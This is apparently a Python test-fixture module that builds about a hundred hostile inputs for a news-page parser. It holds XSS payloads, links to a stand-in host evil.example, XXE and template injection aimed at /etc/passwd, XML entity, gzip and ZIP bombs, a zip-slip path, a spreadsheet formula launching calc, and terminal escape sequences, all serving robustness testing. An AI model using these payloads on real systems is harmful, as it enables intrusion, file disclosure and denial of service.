"""A hundred pages that nobody should send: a script in every field, direction marks, markup that tries to get out, bombs, and sizes."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
import zlib
from collections.abc import Callable
from html import escape
from typing import Final

ATTACKS: Final = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "\"'><svg onload=ran()>",
    "</title></textarea></script><script>ran()</script>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<a href=\"javascript:ran()\" autofocus onfocus=ran()>x</a>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) }</style>",
    "<form action=//evil.example><button autofocus onfocus=ran()>x</button></form>",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${ran()} #{ran()}",
    "&lt;script&gt;ran()&lt;/script&gt; &amp;lt;script&amp;gt;ran()",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u202e<script>ran()</script>\u2066 \u2069\u200f\u061c",
    "<scr\0ipt>ran()</scr\0ipt> <script\x0b>ran()</script\x0b>",
    "]]><!--><script>ran()</script--><![CDATA[<script>ran()</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<object data='data:text/html,<script>ran()</script>'></object><embed src=//evil.example/x>",
    "<details open ontoggle=ran()><summary>x</summary></details><video><source onerror=ran()></video>",
)  # fmt: skip


def in_every_field(attack: str) -> str:
    """A page with it wherever a page can have words."""
    safe, bare = escape(attack), json.dumps(attack)
    about = f'{{"@type": "NewsArticle", "headline": {bare}, "author": {{"name": {bare}}}, "publisher": {{"name": {bare}}}, "articleSection": {bare}, "keywords": [{bare}], "datePublished": {bare}, "url": {bare}}}'
    return (
        f'<html lang="{safe}"><head><title>{attack}</title><meta property="og:title" content="{safe}"><meta name="author" content="{safe}">'
        f'<meta name="keywords" content="{safe}"><meta property="og:site_name" content="{safe}"><meta property="article:section" content="{safe}">'
        f'<link rel="canonical" href="{safe}"><script type="application/ld+json">{about}</script></head><body><article><h1>{safe} in Doha</h1>'
        f'<p class="byline">By {safe}</p><time datetime="{safe}">{safe}</time><figure><img alt="{safe}" src="{safe}"><figcaption>{safe}</figcaption></figure>'
        f"<p>“{safe},” said Meera {safe} Joshi, minister of {safe}. At least 46 {safe} died in {safe}, Doha on 3 March 2026.</p><p>{attack}</p>"
        f'<blockquote>{safe}</blockquote><ul><li><a href="{safe}">Also read: {safe}</a></li></ul><p>Tags: {safe}</p><p>Comments (46) {safe}</p></article></body></html>'
    )


def in_plain_text(attack: str) -> str:
    """The same in text saved from a page."""
    return f"{attack}\nBy {attack}\n3 March 2026, Doha\n\n“{attack},” said {attack} on Friday. At least 46 {attack} died in Doha.\nAlso read: {attack}\nTags: {attack}\n"


def zipped(name: str, content: bytes) -> bytes:
    """A ZIP archive with the one file."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return made.getvalue()


def bomb() -> bytes:
    """A third of a megabyte that unpacks to 300."""
    packer, parts = zlib.compressobj(9, zlib.DEFLATED, 31), []
    for _ in range(300):
        parts.append(packer.compress(b"\0" * 1_000_000))
    return b"".join([*parts, packer.flush()])


WORDS: Final = "The minister said on Friday that 46 people were hurt in Doha when the bridge fell. "

MADE: Final[dict[str, Callable[[], str | bytes]]] = {
    "a bomb of gzip": bomb,
    "a bomb of gzip in gzip": lambda: gzip.compress(bomb()),
    "a bomb of ZIP": lambda: zipped("page.html", b"<p>" + b"\0" * 50_000_000),
    "a ZIP of itself by name": lambda: zipped("../../../../etc/passwd", b"<script>ran()</script>"),
    "a document": lambda: zipped("word/document.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>'),
    "entities of entities": lambda: '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]><x>&j;</x>",
    "an entity from a file": lambda: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><html><body><p>&f;</p></body></html>',
    "a headline of 1 MB": lambda: f"<h1>{'Bridge falls in Doha ' * 50_000}</h1><p>{WORDS}</p>",
    "a headline of one word of 1 MB": lambda: f"<h1>{'a' * 1_000_000}</h1><p>{WORDS}</p>",
    "10 KB of prose": lambda: f"<article>{f'<p>{WORDS * 4}</p>' * 30}</article>",
    "thirty thousand tags": lambda: "<b>" * 30_000,
    "deep": lambda: "<div>" * 20_000 + WORDS,
    "deep and inline": lambda: "<b><p>" * 5_000 + WORDS,
    "an attribute of 400 KB": lambda: f"<p class='{'x ' * 200_000}'>{WORDS}</p>",
    "600 links": lambda: "<ul>" + "<li><a href=/x>Also read this story</a></li>" * 600,
    "combining marks": lambda: "e" + "\u0301" * 100_000,
    "direction marks": lambda: "\u202e\u202d\u2066\u2067" * 10_000,
    "names": lambda: "Anna Berg, " * 2_000,
    "numbers": lambda: "12,345 " * 500,
    "quotation marks": lambda: "“" * 5_000,
    "brackets of JSON": lambda: f"<script type='application/ld+json'>{'[' * 100_000}</script><p>{WORDS}</p>",
    "dates that are none": lambda: "<time datetime='9999999999-99-99T99:99:99+99:99'>31 February 20260</time> " * 50,
    "every byte": lambda: bytes(range(256)) * 200,
    "half a character": lambda: "हेरात".encode()[:-1] * 50,
    "UTF-16 without its mark": lambda: f"<h1>{WORDS}</h1>".encode("utf-16-le"),
    "UTF-7": lambda: b"<meta charset=utf-7>+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "a charset that is none": lambda: b"<meta charset=\"'><script>ran()</script>\"><p>x</p>",
    "a PDF": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(5_000),
    "a program": lambda: b"\x7fELF" + bytes(range(256)) * 20,
    "SVG": lambda: '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"><script>ran()</script><foreignObject><body onload="ran()"/></foreignObject></svg>',
    "XHTML": lambda: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body onload="ran()"><script><![CDATA[ran()]]></script></body></html>',
    "frames": lambda: "<frameset onload=ran()><frame src=javascript:ran()></frameset>",
    "line ends of all kinds": lambda: "a\rb\u2028c\u2029d\x85e\x0bf\x0cg" * 50,
    "no letters": lambda: "\u200b\u200c\u200d\ufeff" * 1_000,
    "the last characters": lambda: "\U0010ffff\ufffe\uffff\ufdd0" * 500,
    "ﷺ": lambda: "﷽" * 2_000,
    "a table": lambda: "<table>" + "<tr><td>1<td>2 people</tr>" * 100,
    "broken markup": lambda: "<<p <!-- ]]> </ & <a href='" * 200,
    "comments": lambda: "<!--" * 20_000,
    "templates": lambda: "<template><script>ran()</script></template><noscript><p title='</noscript><img src=x onerror=ran()>'>" * 50,
    "conditional comments": lambda: "<!--[if gte IE 4]><script>ran()</script><![endif]-->" * 100,
    "a URL of 200 KB": lambda: f"<link rel=canonical href='https://x.example/{'a' * 200_000}'><p>{WORDS}</p>",
    "ids that clash": lambda: "<p id=at>x</p><p id=main>y</p><form id=q name=token><input name=token value=evil></form>" + f"<p>{WORDS}</p>",
    "keys of the desk": lambda: f"<h1>{{{{ token }}}} {{{{ w('desk') }}}} %(token)s {{token}}</h1><p>{WORDS}</p>",
    "language": lambda: f"<html lang='\"><script>ran()</script>'><p>{WORDS}</p>",
    "numerals": lambda: "٤٦ ۴۶ ४६ ४६,००,००० 1e309 0x1F NaN Infinity -0 ½ people died. " * 20,
    "one character": lambda: "<",
    "a zero": lambda: b"\0",
    "spaces and a dot": lambda: " " * 100_000 + ".",
    "marks without words": lambda: ". " * 500,
    "a long quotation": lambda: "“" + "I said it " * 300 + "”",
    "people who say that people say": lambda: "He said that she said that " * 60 + "it rained.",
    "headlines": lambda: "<h1>Bridge falls in Doha, 46 dead</h1>" * 40,
    "words glued": lambda: "<p>" + "Doha" * 4_000 + "</p>",
    "escapes of a terminal": lambda: "\x1b]0;evil\x07\x1b[2J\x1b[31mred " * 200,
    "formulas": lambda: "=cmd|' /C calc'!A0\n@SUM(1+1)\n+1\n-1\n" * 100,
    "emoji": lambda: "👨‍👩‍👧‍👦🏳️‍🌈" * 500,
    "two scripts in a word": lambda: "раypаl Dоhа मीराJoshi " * 300,
    "an address with a user": lambda: f"<link rel=canonical href='https://bank.example@evil.example/'><p>{WORDS}</p>",
    "windows-1252 that says UTF-8": lambda: "<meta charset=utf-8><p>“Doha” – 46…</p>".encode("cp1252"),
    "nested quotations": lambda: "“‘“‘" * 300 + "x" + "’”’”" * 300,
    "spaces of all kinds": lambda: "a\u00a0b\u2003c\u3000d\u1680e\u180ef" * 500,
    "tabs": lambda: "\t" * 100_000,
}  # fmt: skip


def hundred() -> dict[str, str | bytes]:
    """All of them by name."""
    found: dict[str, str | bytes] = {f"in every field: {attack[:30]!r}": in_every_field(attack) for attack in ATTACKS}
    found |= {f"in text: {attack[:30]!r}": in_plain_text(attack) for attack in ATTACKS}
    return found | {name: make() for name, make in MADE.items()}
